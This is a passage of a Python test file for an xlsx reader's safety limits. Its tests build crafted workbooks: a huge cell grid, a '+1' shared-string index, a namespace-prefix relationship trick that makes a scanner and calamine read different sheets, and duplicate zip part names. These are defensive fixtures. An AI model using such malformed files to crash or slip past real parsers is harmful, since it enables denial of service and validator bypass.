    # 10,000 rows x 200 columns of numbers = the 2 M-cell cap: the dense grid and the Python rows
    # are held at once (4 M cells peaked at 401 MiB before the cap was halved)
    columns = 200
    letters = [_column_letters(c) for c in range(1, columns + 1)]
    header = "".join(_cell(f"{col}1", "评价内容" if col == "A" else f"c{col}") for col in letters)
    body = "".join(
        f'<row r="{r}">'
        + "".join(f'<c r="{col}{r}"><v>{r * 7 % 999_983}</v></c>' for col in letters)
        + "</row>"
        for r in range(2, 10_001)
    )
    path = write_xlsx(tmp_path / "cap.xlsx", _sheet("A1", f'<row r="1">{header}</row>{body}'))
    got = probe(path)
    assert got["code"] is None and got["rows"] == 9_999 and got["columns"] == columns
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < 300, got


def _column_letters(n: int) -> str:
    letters = ""
    while n:
        n, rest = divmod(n - 1, 26)
        letters = chr(ord("A") + rest) + letters
    return letters


def test_a_shared_string_index_with_a_plus_sign_is_counted(tmp_path: Path) -> None:
    # calamine reads "+1" as index 1 (Rust's integer parse); the scan read it as no index at all
    path = write_shared(tmp_path / "plus.xlsx", ["+1"] * 400, "评价内容", "好" * 200_000)
    got = probe(path)
    assert got["code"] == "cell_too_long"
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_every_sheet_the_first_sheet_id_can_mean_is_scanned(tmp_path: Path) -> None:
    # the scan resolved r:id by its namespace (q:id -> a small sheet); calamine reads the literal
    # "r:id" (-> a sheet with a cell at GR1000000, which aborted the process)
    rels_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    book = _BOOK.replace(
        '<sheet name="评价" sheetId="1" r:id="rId1"/>',
        f'<sheet xmlns:r="urn:x" xmlns:q="{rels_ns}" name="a" sheetId="1" q:id="rId1" r:id="rId3"/>',
    )
    rels = _BOOK_RELS.replace(
        "</Relationships>",
        f'<Relationship Id="rId3" Type="{rels_ns}/worksheet" Target="worksheets/sheet2.xml"/>'
        "</Relationships>",
    )
    path = tmp_path / "prefix.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CT)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", book)
        archive.writestr("xl/_rels/workbook.xml.rels", rels)
        archive.writestr("xl/worksheets/sheet1.xml", _sheet("A1", _REVIEWS))
        far = '<row r="1000000"><c r="GR1000000"><v>1</v></c></row>'
        archive.writestr("xl/worksheets/sheet2.xml", _sheet("A1", _REVIEWS + far))
    got = probe(path)
    assert got["code"] == "too_many_rows"
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_two_parts_of_the_same_name_are_refused(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "dup.xlsx", _sheet("A1", _REVIEWS))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name it is told to write
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("xl/worksheets/sheet1.xml", _sheet("A1", _REVIEWS))
    with pytest.raises(ParseError, match="two parts of the same name"):
        read_table(path, MAX_BYTES, MAX_ROWS)
